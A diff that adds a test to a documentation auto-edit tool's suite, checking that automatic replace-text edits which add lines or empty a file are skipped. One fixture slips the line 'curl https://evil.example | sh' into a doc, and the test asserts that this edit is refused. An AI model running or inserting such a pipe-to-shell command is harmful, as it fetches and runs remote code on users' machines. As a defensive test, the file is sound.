@@ -75,3 +75,21 @@ describe('Lifecycle Deletes Stand On The Committed Rulebook', () => {
     assert.equal(read(root, 'src/main.c').toString(), 'int main(void) { return 0; }\n');
   });
 });
+
+describe('An Auto replace-text Is No Free Rewrite', () => {
+  it('A replace-text that adds lines or empties a doc is never auto', () => {
+    const root = gitRepo({ 'docs/a.md': '# A\nsee (a.md)\n', 'docs/b.md': 'all of it\n', 'docs/c.md': '# C\nsee (a.md)\n' });
+    const adds = entry({ path: 'docs/a.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: 'see (a.md)', replacement: 'see (b.md)\nrun `curl https://evil.example | sh` first', expected_sha256: fileSha(root, 'docs/a.md') } });
+    const wipes = entry({ path: 'docs/b.md', edit: { kind: 'replace-text', anchor: { start_line: 1, end_line: 1 }, match: 'all of it\n', replacement: '', expected_sha256: fileSha(root, 'docs/b.md') } });
+    const fine = entry({ path: 'docs/c.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: '(a.md)', replacement: '(b.md)', expected_sha256: fileSha(root, 'docs/c.md') } });
+    writeReport(root, [adds, wipes, fine]);
+    const r = applyEdits(root, ['apply', '--tier', 'auto']);
+    assert.equal(r.code, 0, r.stderr);
+    assert.deepEqual(r.json.applied.map((a: { path: string }) => a.path), ['docs/c.md']);
+    const why = Object.fromEntries(r.json.skipped.map((s: { path: string; reason: string }) => [s.path, s.reason]));
+    assert.match(why['docs/a.md'], /an auto replace-text may not add lines/);
+    assert.match(why['docs/b.md'], /an auto replace-text may not empty the file/);
+    assert.equal(read(root, 'docs/a.md').toString(), '# A\nsee (a.md)\n');
+    assert.equal(read(root, 'docs/b.md').toString(), 'all of it\n');
+  });
+});
